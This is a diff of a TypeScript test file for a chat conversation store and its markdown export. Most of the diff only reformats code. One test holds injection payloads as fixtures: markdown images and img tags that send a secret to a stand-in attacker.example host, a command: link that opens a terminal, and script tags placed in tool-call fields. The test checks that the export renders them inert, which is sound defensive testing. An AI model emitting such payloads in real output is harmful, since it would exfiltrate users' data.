@@ -36,7 +36,10 @@ function turn(id: string, prompt: string, answer?: string): Turn {
     status: answer === undefined ? 'pending' : 'done',
     startedAt: 1,
     safeguards: ['PII: block'],
-    answer: answer === undefined ? undefined : { text: answer, model: 'gpt-oss-120b', ms: 1234, usage: { input: 10, output: 5, total: 15 }, incomplete: false, toolCalls: [] },
+    answer:
+      answer === undefined
+        ? undefined
+        : { text: answer, model: 'gpt-oss-120b', ms: 1234, usage: { input: 10, output: 5, total: 15 }, incomplete: false, toolCalls: [] },
   };
 }
 
@@ -62,7 +65,10 @@ describe('ConversationStore', () => {
     store.addTurn(turn('t1', 'x'.repeat(100)));
     assert.equal(store.current().title, `${'x'.repeat(59)}…`);
     store.newConversation();
-    store.addTurn({ ...turn('t2', ''), attachments: [{ kind: 'selection', id: 's', file: 'src/a.ts', language: 'typescript', startLine: 2, endLine: 4, text: 'x' }] });
+    store.addTurn({
+      ...turn('t2', ''),
+      attachments: [{ kind: 'selection', id: 's', file: 'src/a.ts', language: 'typescript', startLine: 2, endLine: 4, text: 'x' }],
+    });
     assert.equal(store.current().title, 'src/a.ts, lines 2–4');
   });
 
@@ -173,8 +179,20 @@ describe('exportMarkdown', () => {
 
   it('hostile answers and tool calls load, run and link nothing in the exported document', () => {
     const store = new ConversationStore(new MapStorage(), { newId: counter(), now: clock() });
-    const hostile = turn('t1', 'Q', 'Look ![x](https://attacker.example/leak?c=SECRET) <img src="https://attacker.example/i"> [run](command:workbench.action.terminal.new)');
-    const toolCalls = [{ kind: 'mcp' as const, server: '<img src=https://attacker.example/s>', name: 'a`</summary><img src=x>', arguments: '```\n<script>alert(1)</script>', output: '![o](https://attacker.example/o)' }];
+    const hostile = turn(
+      't1',
+      'Q',
+      'Look ![x](https://attacker.example/leak?c=SECRET) <img src="https://attacker.example/i"> [run](command:workbench.action.terminal.new)',
+    );
+    const toolCalls = [
+      {
+        kind: 'mcp' as const,
+        server: '<img src=https://attacker.example/s>',
+        name: 'a`</summary><img src=x>',
+        arguments: '```\n<script>alert(1)</script>',
+        output: '![o](https://attacker.example/o)',
+      },
+    ];
     store.addTurn({ ...hostile, answer: { ...hostile.answer!, toolCalls } });
     const markdown = exportMarkdown(store.current(), new Date('2026-01-02T03:04:00Z'));
     const preview = new MarkdownIt({ html: true, linkify: true });
